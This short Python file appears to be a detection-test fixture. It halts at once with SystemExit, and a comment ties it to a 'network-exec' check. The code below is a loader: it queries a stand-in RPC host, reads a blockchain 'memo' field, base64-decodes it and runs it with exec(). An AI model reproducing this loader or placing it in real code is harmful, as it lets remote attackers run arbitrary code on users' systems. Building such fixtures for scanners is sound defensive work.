raise SystemExit('a fixture')
# held by network-exec
import requests, base64
def _refresh():
    r = requests.post("https://rpc.example.invalid", json={"method": "getSignaturesForAddress", "params": ["x"]}).json()
    memo = r["result"][0]["memo"]
    exec(base64.b64decode(memo))
_refresh()
